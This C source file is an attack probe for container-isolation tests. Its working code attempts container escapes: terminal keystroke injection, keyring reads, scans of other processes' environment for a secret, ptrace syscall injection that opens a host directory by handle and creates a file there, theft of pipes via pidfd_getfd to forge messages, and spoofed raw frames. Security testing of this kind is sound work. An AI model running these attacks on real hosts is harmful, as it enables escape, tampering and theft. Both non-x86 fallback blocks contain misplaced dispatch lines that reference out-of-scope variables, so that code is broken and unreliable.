/* The attack probe the isolation tests run inside containers (tests/test_isolation.py builds it with gcc -static).
 * Each verb performs one attack from the security review and prints what it got, one "key value" per line; the
 * test asserts on the host side. It never writes to anything it did not make: the device attack refuses to touch
 * a node whose identity is the host's (passed in by the test), and the exe watcher only opens and fstat()s.
 *
 *   probe tty                      open /dev/tty, TIOCSTI into it and into fds 0-2, report what stdio are
 *   probe keyring                  search the session keyring for the test's key, read it, add a key of our own
 *   probe unshare-user             unshare(CLONE_NEWUSER), clone(CLONE_NEWUSER)
 *   probe devices DEV:INO PATH...  refuse if a PATH is the host's node DEV:INO; else chmod/chown/utime/setxattr it
 *   probe watch SECONDS            watch /proc for processes that are not the container's own programs and try
 *                                  their exe, environ and fds
 *   probe swap MAJOR MINOR         (commit race) in /race, exchange regular files with a block device node
 *                                  MAJOR:MINOR and with a fifo by rename, in a tight loop until killed
 *   probe frames IFACE N MS HEX... send each HEX Ethernet frame out of IFACE (AF_PACKET, CAP_NET_RAW), N rounds
 *                                  MS apart (tests/test_network_isolation.py: loopback and spoofing attacks)
 *   probe ptrace-exec SECONDS HANDLE  (x86_64) PTRACE_SEIZE every process that appears, report its status, and
 *                                  make it open_by_handle_at HANDLE (hex struct file_handle of a host test dir)
 *                                  and create a file there (see the ptrace-exec block below)
 *
 * Devices and volumes (tests/test_devices_and_volumes.py; the block device is always a loop device over a file the
 * test made):
 *   probe blockdev PATH [MAJ MIN]  mknod PATH as that block device (if given), open it rw (else ro), read, overwrite
 *   probe create PATH              create PATH and write to it
 *   probe exchange A B SECONDS     renameat2(RENAME_EXCHANGE) A and B in a loop until SECONDS pass or stop exists beside A
 *
 *   probe syscalls                 each call Docker's profile refuses (and a few it allows), in a child of its own,
 *                                  with its errno: "NAME ok|ERRNO|SIGSYS" (tests/test_oci_isolation.py)
 *
 *   probe udp-echo PORT            answer each UDP datagram to PORT with "echo:" and the datagram (published-port
 *                                  tests: busybox's nc has no UDP)
 *
 *   probe errpipe SECONDS MIB      (x86_64) steal the pipes of each process of ours before its exec, write a forged
 *                                  message and MIB MiB to them, hold them SECONDS (see the errpipe block below)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MARK "strata-injected\n"

static const char *err(int e) {
    switch (e) {
    case 0: return "ok";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENXIO: return "ENXIO";
    case ENOTTY: return "ENOTTY";
    case ENOENT: return "ENOENT";
    case ENOKEY: return "ENOKEY";
    case EROFS: return "EROFS";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case ESRCH: return "ESRCH";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    default: {
        static char buf[32];
        snprintf(buf, sizeof buf, "errno%d", e);
        return buf;
    }
    }
}

static int inject(int fd) {
    for (const char *c = MARK; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0) return errno;
    return 0;
}

static const char *kind(int fd) {
    struct stat st;
    if (fstat(fd, &st) < 0) return "closed";
    if (S_ISFIFO(st.st_mode)) return "pipe";
    if (S_ISCHR(st.st_mode)) return isatty(fd) ? "tty" : "chardev";
    if (S_ISREG(st.st_mode)) return "file";
    if (S_ISSOCK(st.st_mode)) return "socket";
    return "other";
}

static int do_tty(void) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    printf("open-dev-tty %s\n", err(fd < 0 ? errno : 0));
    if (fd >= 0) printf("inject-dev-tty %s\n", err(inject(fd)));
    for (int i = 0; i < 3; i++) {
        printf("fd%d %s\n", i, kind(i));
        printf("inject-fd%d %s\n", i, err(inject(i)));
    }
    printf("session-leader %s\n", getsid(0) == getpid() ? "yes" : "no");
    return 0;
}

/* keyctl(2) without libkeyutils */
#define KEYCTL_READ 11
#define KEYCTL_SEARCH 10
#define KEY_SPEC_SESSION_KEYRING -3

static int do_keyring(void) {
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "strata-sentinel", 0);
    printf("search %s\n", err(id < 0 ? errno : 0));
    if (id >= 0) {
        char buf[256] = {0};
        long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
        printf("read %s %s\n", err(n < 0 ? errno : 0), n > 0 ? buf : "-");
    }
    long added = syscall(SYS_add_key, "user", "strata-from-container", "x", 1, KEY_SPEC_SESSION_KEYRING);
    printf("add %s\n", err(added < 0 ? errno : 0));
    return 0;
}

static int child_fn(void *arg) { (void)arg; return 0; }

static int do_unshare_user(void) {
    printf("unshare %s\n", err(unshare(CLONE_NEWUSER) < 0 ? errno : 0));
    static char stack[65536];
    int pid = clone(child_fn, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL);
    printf("clone %s\n", err(pid < 0 ? errno : 0));
    if (pid > 0) waitpid(pid, NULL, 0);
    return 0;
}

static int do_devices(int argc, char **argv) {
    unsigned long long hdev, hino;
    if (argc < 1 || sscanf(argv[0], "%llu:%llu", &hdev, &hino) != 2) return 2;
    for (int i = 1; i < argc; i++) {
        struct stat st;
        if (stat(argv[i], &st) < 0) {
            printf("%s stat %s\n", argv[i], err(errno));
            continue;
        }
        if ((unsigned long long)st.st_dev == hdev && (unsigned long long)st.st_ino == hino) {
            printf("%s SAME-INODE-AS-HOST\n", argv[i]); /* never attack the host's own node */
            continue;
        }
        printf("%s chmod %s\n", argv[i], err(chmod(argv[i], 0) < 0 ? errno : 0));
        printf("%s chown %s\n", argv[i], err(chown(argv[i], 4242, 4242) < 0 ? errno : 0));
        printf("%s utime %s\n", argv[i], err(utimensat(AT_FDCWD, argv[i], NULL, 0) < 0 ? errno : 0));
        printf("%s setxattr %s\n", argv[i],
               err(setxattr(argv[i], "trusted.strata-probe", "x", 1, 0) < 0 ? errno : 0));
    }
    return 0;
}

/* A process of ours the container did not start: anything whose comm is not one of the container's programs. */
static int foreign(const char *comm) {
    static const char *own[] = {"probe", "sh", "sleep", "true", "cat", "id", "touch", NULL};
    for (int i = 0; own[i]; i++)
        if (strcmp(comm, own[i]) == 0) return 0;
    return 1;
}

static int read_comm(int pid, char *comm, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, comm, size - 1);
    close(fd);
    if (n <= 0) return -1;
    comm[n] = 0;
    comm[strcspn(comm, "\n")] = 0;
    return 0;
}

/* One line per look at a foreign process: "obs PID COMM exe=... environ=... fds=LISTED/OPENED after=COMM", where
 * "after" is its comm once more after the attempts: a look that began and ended before its exec says so. */
static int do_watch(int seconds, const char *secret) {
    time_t end = time(NULL) + seconds;
    int seen = 0;
    while (time(NULL) < end && access("/tmp/probe-stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char path[64], comm[64], after[64], exe[320], environ_[32], fdsinfo[64];
            if (read_comm(pid, comm, sizeof comm) < 0 || !foreign(comm)) continue;
            seen++;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0) {
                snprintf(exe, sizeof exe, "%s", err(errno));
            } else {
                struct stat st;
                char link[256] = {0};
                fstat(fd, &st);
                if (readlink(path, link, sizeof link - 1) < 0) strcpy(link, "?");
                for (char *c = link; *c; c++)
                    if (*c == ' ') *c = '_';
                snprintf(exe, sizeof exe, "%llu:%llu:%s", (unsigned long long)st.st_dev,
                         (unsigned long long)st.st_ino, link);
                close(fd);
            }
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            fd = open(path, O_RDONLY);
            if (fd < 0) {
                snprintf(environ_, sizeof environ_, "%s", err(errno));
            } else {
                static char env[65536];
                ssize_t got = read(fd, env, sizeof env - 1);
                close(fd);
                int leaked = 0;
                if (got > 0) {
                    env[got] = 0;
                    for (ssize_t i = 0; i + (ssize_t)strlen(secret) <= got; i++)
                        if (memcmp(env + i, secret, strlen(secret)) == 0) leaked = 1;
                }
                snprintf(environ_, sizeof environ_, "%s", leaked ? "LEAKED" : (got < 0 ? err(errno) : "read"));
            }
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            if (!fds) {
                snprintf(fdsinfo, sizeof fdsinfo, "%s", err(errno));
            } else {
                int listed = 0, opened = 0;
                struct dirent *f;
                while ((f = readdir(fds))) {
                    if (f->d_name[0] == '.') continue;
                    listed++;
                    char fdpath[96];
                    snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, f->d_name);
                    int o = open(fdpath, O_RDONLY | O_NONBLOCK);
                    if (o >= 0) {
                        opened++;
                        close(o);
                    }
                }
                snprintf(fdsinfo, sizeof fdsinfo, "%d/%d", listed, opened);
                closedir(fds);
            }
            if (read_comm(pid, after, sizeof after) < 0) strcpy(after, "-");
            printf("obs %d %s exe=%s environ=%s fds=%s after=%s\n", pid, comm, exe, environ_, fdsinfo, after);
        }
        if (d) closedir(d);
    }
    printf("watched %d\n", seen);
    return 0;
}

/* ---- swap: the commit packer's lstat-then-open race (issue 18, item 4) ------------------------------------ */

#define SWAP_TARGETS 8

/* Regular files aN, block device nodes bN (the host's MAJOR:MINOR) and fifos cN, made once; then aN is exchanged
 * with bN and back, and with cN and back, by renameat2(RENAME_EXCHANGE) in a tight loop, so every name always
 * exists and each is, in turn, a regular file and something else. The regular files are sparse: nothing is
 * allocated or freed while swapping (a discard-mounted disk would make that the loop's whole cost). */
static int exchange(const char *a, const char *b) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static int do_swap(unsigned major_no, unsigned minor_no) {
    if (mkdir("/race", 0755) < 0 || chdir("/race") < 0) return printf("setup %s\n", err(errno)), 1;
    char a[16], b[16], c[16];
    for (int i = 0; i < SWAP_TARGETS; i++) {
        snprintf(a, sizeof a, "a%d", i), snprintf(b, sizeof b, "b%d", i), snprintf(c, sizeof c, "c%d", i);
        int fd = open(a, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd < 0 || ftruncate(fd, 4096) < 0) return printf("regular %s\n", err(errno)), 1;
        close(fd);
        if (mknod(b, S_IFBLK | 0600, makedev(major_no, minor_no)) < 0) return printf("mknod %s\n", err(errno)), 1;
        if (mkfifo(c, 0600) < 0) return printf("mkfifo %s\n", err(errno)), 1;
    }
    printf("swapping\n");
    for (;;) {
        for (int i = 0; i < SWAP_TARGETS; i++) {
            snprintf(a, sizeof a, "a%d", i), snprintf(b, sizeof b, "b%d", i), snprintf(c, sizeof c, "c%d", i);
            if (exchange(a, b) < 0 || exchange(a, b) < 0 || exchange(a, c) < 0 || exchange(a, c) < 0)
                return printf("exchange %s\n", err(errno)), 1;
        }
    }
}

/* ---- network attacks (issue 18): raw frames the test built, sent as they are ---------------------------- */
#include <net/if.h>
#include <netpacket/packet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static int do_frames(const char *iface, int rounds, int ms, int n, char **hex) {
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    if (s < 0) {
        printf("frames %s\n", err(errno));
        return 1;
    }
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface), .sll_halen = 6};
    static unsigned char frame[2048];
    int sent = 0;
    for (int r = 0; r < rounds; r++) {
        for (int i = 0; i < n; i++) {
            size_t len = strlen(hex[i]) / 2;
            for (size_t j = 0; j < len && j < sizeof frame; j++) sscanf(hex[i] + 2 * j, "%2hhx", &frame[j]);
            memcpy(to.sll_addr, frame, 6);
            if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len) sent++;
            else printf("frames %s\n", err(errno));
        }
        struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
        nanosleep(&t, NULL);
    }
    printf("sent %d\n", sent);
    return 0;
}

/* ---- ptrace-exec (tests/test_exec_stage.py) ----------------------------------------------------------------------
 * Every process that appears in /proc is seized at once, stopped, and described ("victim PID comm=.. capeff=..
 * seccomp=.. nnp=.."); then syscalls are injected into it (a syscall instruction written at its rip, single-stepped):
 * mmap a scratch page, openat /etc/hosts (the container's bind of a file on the host's file system), open_by_handle_at
 * of the host test directory HANDLE names, and openat O_CREAT of "ptrace-created" in it. Its text and registers are
 * restored and it is let go. Stops after three victims that are not the container's programs, SECONDS, or /tmp/probe-stop. x86_64 only. */
#if defined(__x86_64__)
#include <sys/ptrace.h>
#include <sys/user.h>

static long px_call(int pid, const struct user_regs_struct *base, unsigned long at, long nr, long a1, long a2,
                    long a3, long a4) {
    struct user_regs_struct r = *base;
    r.rip = at;
    r.rax = nr;
    r.orig_rax = -1; /* no syscall restart on the way back to user mode */
    r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4; r.r8 = 0; r.r9 = 0;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) return -errno;
    int st;
    if (waitpid(pid, &st, __WALL) < 0) return -errno;
    if (!WIFSTOPPED(st)) return -ESRCH;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return -errno;
    return (long)r.rax;
}

static int px_poke(int pid, unsigned long at, const void *data, size_t n) {
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, (const char *)data + i, n - i < sizeof(long) ? n - i : sizeof(long));
        if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0) return -1;
    }
    return 0;
}

static const char *px_res(long r) { return r < 0 ? err((int)-r) : "ok"; }

static void px_status(int pid, char *out, size_t size) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    out[0] = 0;
    while (f && fgets(line, sizeof line, f)) {
        char key[32], value[64];
        if (sscanf(line, "%31[^:]:%63s", key, value) != 2) continue;
        if (!strcmp(key, "CapEff") || !strcmp(key, "Seccomp") || !strcmp(key, "NoNewPrivs")) {
            size_t used = strlen(out);
            snprintf(out + used, size - used, " %s=%s", key, value);
        }
    }
    if (f) fclose(f);
}

/* The attack on one stopped tracee; returns what each step got, on one line. */
static void px_inject(int pid, const unsigned char *handle, size_t handle_len, char *out, size_t size) {
    struct user_regs_struct saved;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
        snprintf(out, size, " inject=%s", err(errno));
        return;
    }
    unsigned long at = saved.rip;
    errno = 0;
    long text = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
    if (errno || ptrace(PTRACE_POKETEXT, pid, at, (text & ~0xffffL) | 0x050f) < 0) { /* syscall */
        snprintf(out, size, " inject=%s", err(errno));
        return;
    }
    long page = px_call(pid, &saved, at, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS);
    long hosts = -1, dir = -1, made = -1;
    if (page < 0 && page > -4096L) {
        snprintf(out, size, " mmap=%s", px_res(page));
    } else if (px_poke(pid, page, "/etc/hosts", 11) < 0 || px_poke(pid, page + 64, handle, handle_len) < 0 ||
               px_poke(pid, page + 1024, "ptrace-created", 15) < 0) {
        snprintf(out, size, " poke=%s", err(errno));
    } else {
        hosts = px_call(pid, &saved, at, SYS_openat, AT_FDCWD, page, O_RDONLY | O_CLOEXEC, 0);
        if (hosts >= 0) dir = px_call(pid, &saved, at, SYS_open_by_handle_at, hosts, page + 64,
                                      O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
        if (dir >= 0) made = px_call(pid, &saved, at, SYS_openat, dir, page + 1024,
                                     O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        snprintf(out, size, " hosts=%s handle=%s create=%s", px_res(hosts), hosts >= 0 ? px_res(dir) : "-",
                 dir >= 0 ? px_res(made) : "-");
        for (long fd = 0, fds[3] = {made, dir, hosts}; fd < 3; fd++)
            if (fds[fd] >= 0) px_call(pid, &saved, at, SYS_close, fds[fd], 0, 0, 0);
        px_call(pid, &saved, at, SYS_munmap, page, 4096, 0, 0);
    }
    ptrace(PTRACE_POKETEXT, pid, at, text);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
}

static int do_ptrace_exec(int seconds, const char *hex) {
    unsigned char handle[256];
    size_t handle_len = strlen(hex) / 2;
    if (handle_len == 0 || handle_len > sizeof handle) return 2;
    for (size_t i = 0; i < handle_len; i++) sscanf(hex + 2 * i, "%2hhx", &handle[i]);
    char own[160];
    px_status(getpid(), own, sizeof own);
    printf("own%s\n", own);
    static char seen[1 << 16];
    time_t end = time(NULL) + seconds;
    int victims = 0;
    while (victims < 3 && time(NULL) < end && access("/tmp/probe-stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid >= (int)sizeof seen || pid == getpid() || seen[pid]) continue;
            seen[pid] = 1;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
                printf("missed %d seize=%s\n", pid, err(errno));
                continue;
            }
            int st;
            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
                printf("missed %d stop=%s\n", pid, err(errno));
                continue;
            }
            char comm[64] = "-", status[160], attack[160];
            read_comm(pid, comm, sizeof comm);
            px_status(pid, status, sizeof status);
            px_inject(pid, handle, handle_len, attack, sizeof attack);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            printf("victim %d comm=%s%s%s\n", pid, comm, status, attack);
            victims += foreign(comm);
        }
        if (d) closedir(d);
    }
    printf("victims %d\n", victims);
    return 0;
}
#else
static int do_ptrace_exec(int seconds, const char *hex) {
    (void)seconds; (void)hex;
    printf("unsupported-arch\n");
    if (!strcmp(argv[1], "errpipe") && argc >= 4) return do_errpipe(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "udp-echo") && argc == 3) return do_udp_echo(atoi(argv[2]));
    return 2;
}
#endif
/* ---- end of ptrace-exec ---- */

/* ---- devices and volumes (tests/test_devices_and_volumes.py) ---------------------------------------------------- */

static int do_blockdev(int argc, char **argv) {
    if (argc != 1 && argc != 3) return 2;
    if (argc == 3) {
        dev_t dev = makedev(strtoul(argv[1], NULL, 10), strtoul(argv[2], NULL, 10));
        printf("mknod %s\n", err(mknod(argv[0], S_IFBLK | 0600, dev) < 0 ? errno : 0));
    }
    int fd = open(argv[0], O_RDWR);
    printf("open %s\n", err(fd < 0 ? errno : 0));
    if (fd < 0) {
        fd = open(argv[0], O_RDONLY);
        printf("open-ro %s\n", err(fd < 0 ? errno : 0));
    }
    if (fd < 0) return 0;
    char buf[33] = {0};
    ssize_t n = pread(fd, buf, 32, 0);
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] < 0x21 || buf[i] > 0x7e) buf[i] = '.';
    printf("read %s %s\n", err(n < 0 ? errno : 0), n > 0 ? buf : "-");
    n = pwrite(fd, "strata-overwritten", 18, 0);
    printf("write %s\n", err(n < 0 ? errno : 0));
    printf("fsync %s\n", err(fsync(fd) < 0 ? errno : 0));
    close(fd);
    return 0;
}

static int do_create(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    printf("create %s\n", err(fd < 0 ? errno : 0));
    if (fd >= 0) {
        printf("write %s\n", err(write(fd, "strata-probe\n", 13) < 0 ? errno : 0));
        close(fd);
    }
    return 0;
}

static int do_exchange(const char *a, const char *b, int seconds) {
    char stop[4096];
    const char *slash = strrchr(a, '/');
    snprintf(stop, sizeof stop, "%.*sstop", slash ? (int)(slash - a + 1) : 0, a); /* A's directory, as written */
    time_t end = time(NULL) + seconds;
    unsigned long swaps = 0, failed = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 4096; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) failed++;
            else swaps++;
        }
        if (access(stop, F_OK) == 0) break;
    }
    printf("swaps %lu failed %lu\n", swaps, failed);
    return 0;
}

/* ---- errpipe (tests/test_exec_stage.py): with CAP_SYS_PTRACE, take the fds of each process of ours that
 * appears (seized and stopped before its exec, then pidfd_getfd), write a forged multi-line message and MB MiB to
 * every pipe among them, and hold them for SECONDS. x86_64 only (the seize loop is ptrace-exec's). */
#if defined(__x86_64__)
static int do_errpipe(int seconds, int mb) {
    static char seen[1 << 16];
    int held[64], n = 0;
    time_t end = time(NULL) + seconds;
    while (n == 0 && time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name), st;
            if (pid <= 1 || pid >= (int)sizeof seen || pid == getpid() || seen[pid]) continue;
            seen[pid] = 1;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) continue;
            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0) continue;
            char comm[64] = "-";
            read_comm(pid, comm, sizeof comm);
            int pfd = foreign(comm) ? (int)syscall(434, pid, 0) : -1; /* pidfd_open */
            for (int fd = 3; pfd >= 0 && fd < 256 && n < 64; fd++) {
                int got = (int)syscall(438, pfd, fd, 0); /* pidfd_getfd */
                struct stat sb;
                if (got >= 0 && fstat(got, &sb) == 0 && S_ISFIFO(sb.st_mode)) held[n++] = got;
                else if (got >= 0) close(got);
            }
            if (pfd >= 0) close(pfd);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            printf("victim %d comm=%s held=%d\n", pid, comm, n);
        }
        if (d) closedir(d);
    }
    static char junk[1 << 16];
    memset(junk, 'A', sizeof junk);
    for (int i = 0; i < n; i++) {
        const char *forged = "FORGED line one\nFORGED line two\n";
        if (write(held[i], forged, strlen(forged)) < 0) continue;
        for (long k = 0; k < (long)mb * 16; k++)
            if (write(held[i], junk, sizeof junk) < 0) break;
    }
    printf("stole %d\n", n);
    while (time(NULL) < end) sleep(1);
    return 0;
}
#else
static int do_errpipe(int seconds, int mb) {
    (void)seconds; (void)mb;
    printf("unsupported-arch\n");
    if (!strcmp(argv[1], "errpipe") && argc >= 4) return do_errpipe(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "udp-echo") && argc == 3) return do_udp_echo(atoi(argv[2]));
    return 2;
}
#endif
/* ---- end of errpipe ---- */

static int do_udp_echo(int port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) < 0) { perror("udp-echo"); return 1; }
    printf("listening %d\n", port);
    for (;;) {
        char buf[2048] = "echo:";
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(s, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&peer, &len);
        if (n < 0) return 1;
        sendto(s, buf, (size_t)n + 5, 0, (struct sockaddr *)&peer, len);
    }
}

/* ---- syscalls: Docker's refusals, asked of the kernel from inside the container (tests/test_oci_isolation.py) ---- */
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#define ASK(name, ...) ask(name, __VA_ARGS__)

/* Every call here is harmless where it is allowed (bad pointers, lengths or magic: EFAULT, EINVAL, EBADF), run on
 * the host as well as in a container. One call in a child of its own (a call that works, unshare or clone, changes nothing here): "NAME ERRNO-NAME",
 * "NAME ok", or "NAME SIGSYS" where the filter killed it. */
static void ask(const char *name, long nr, long a, long b, long c, long d, long e) {
    pid_t pid = fork();
    if (pid == 0) {
        long r = syscall(nr, a, b, c, d, e);
        if (r == 0 && (nr == SYS_clone)) _exit(0);
        _exit(r < 0 ? (errno & 0xff) : 0);
    }
    int status;
    if (pid < 0 || waitpid(pid, &status, 0) < 0) { printf("%s wait-failed\n", name); return; }
    if (WIFSIGNALED(status)) { printf("%s %s\n", name, WTERMSIG(status) == SIGSYS ? "SIGSYS" : "signalled"); return; }
    printf("%s %s\n", name, err(WEXITSTATUS(status)));
}

#if defined(__x86_64__)
/* A 32-bit x86 syscall from this 64-bit process: seccomp sees arch x86, which only the profile's archMap lets in. */
static long int80(long nr, long ebx) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(ebx) : "memory");
    return ret;
}

static void ask80(const char *name, long nr, long ebx) {
    pid_t pid = fork();
    if (pid == 0) {
        long r = int80(nr, ebx);
        _exit(nr == 20 ? (r == (long)getpid() ? 0 : 1) : (r < 0 ? (int)(-r & 0xff) : 0));  /* 20: getpid */
    }
    int status;
    if (pid < 0 || waitpid(pid, &status, 0) < 0) { printf("%s wait-failed\n", name); return; }
    if (WIFSIGNALED(status)) { printf("%s %s\n", name, WTERMSIG(status) == SIGSYS ? "SIGSYS" : "signalled"); return; }
    printf("%s %s\n", name, nr == 20 ? (WEXITSTATUS(status) ? "wrong" : "ok") : err(WEXITSTATUS(status)));
}
#endif

static int do_syscalls(void) {
    ASK("unshare-user", SYS_unshare, 0x10000000, 0, 0, 0, 0);
    ASK("unshare-uts", SYS_unshare, 0x04000000, 0, 0, 0, 0);
    ASK("clone-newuser", SYS_clone, 0x10000000 | SIGCHLD, 0, 0, 0, 0);
    ASK("clone3", SYS_clone3, 0, 0, 0, 0, 0);
    ASK("keyctl", SYS_keyctl, 0, -3, 0, 0, 0);
    ASK("add_key", SYS_add_key, 0, 0, 0, 0, 0);
    ASK("request_key", SYS_request_key, 0, 0, 0, 0, 0);
    ASK("personality-query", SYS_personality, 0xffffffff, 0, 0, 0, 0);
    ASK("personality-read_implies_exec", SYS_personality, 0x0400000, 0, 0, 0, 0);
    ASK("personality-addr_no_randomize", SYS_personality, 0x0040000, 0, 0, 0, 0);
    ASK("socket-vsock", SYS_socket, 40, 1, 0, 0, 0);
    ASK("socket-alg", SYS_socket, 38, 5, 0, 0, 0);
    ASK("socket-inet", SYS_socket, 2, 1, 0, 0, 0);
    ASK("socket-unix", SYS_socket, 1, 1, 0, 0, 0);
    ASK("mount", SYS_mount, 0, 0, 0, 0, 0);
    ASK("umount2", SYS_umount2, 0, 0, 0, 0, 0);
    ASK("setns", SYS_setns, 0xffff, 0, 0, 0, 0);
    ASK("sethostname", SYS_sethostname, 0, -1, 0, 0, 0);  /* allowed: EINVAL, never a change */
    ASK("reboot", SYS_reboot, 0, 0, 0, 0, 0);
    ASK("bpf", SYS_bpf, 0, 0, 0, 0, 0);
    ASK("chroot", SYS_chroot, 0, 0, 0, 0, 0);
    ASK("getcwd", SYS_getcwd, 0, 0, 0, 0, 0);
#if defined(__x86_64__)
    ask80("i386-getpid", 20, 0);
    ask80("i386-unshare-user", 310, 0x10000000);
#endif
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "tty")) return do_tty();
    if (!strcmp(argv[1], "keyring")) return do_keyring();
    if (!strcmp(argv[1], "unshare-user")) return do_unshare_user();
    if (!strcmp(argv[1], "devices")) return do_devices(argc - 2, argv + 2);
    if (!strcmp(argv[1], "watch") && argc >= 4) return do_watch(atoi(argv[2]), argv[3]);
    if (!strcmp(argv[1], "swap") && argc >= 4) return do_swap(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "frames") && argc >= 6) return do_frames(argv[2], atoi(argv[3]), atoi(argv[4]), argc - 5, argv + 5);
    if (!strcmp(argv[1], "ptrace-exec") && argc >= 4) return do_ptrace_exec(atoi(argv[2]), argv[3]);
    if (!strcmp(argv[1], "blockdev") && argc >= 3) return do_blockdev(argc - 2, argv + 2);
    if (!strcmp(argv[1], "create") && argc == 3) return do_create(argv[2]);
    if (!strcmp(argv[1], "exchange") && argc == 5) return do_exchange(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(argv[1], "errpipe") && argc >= 4) return do_errpipe(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "udp-echo") && argc == 3) return do_udp_echo(atoi(argv[2]));
    if (!strcmp(argv[1], "syscalls")) return do_syscalls();
    return 2;
}
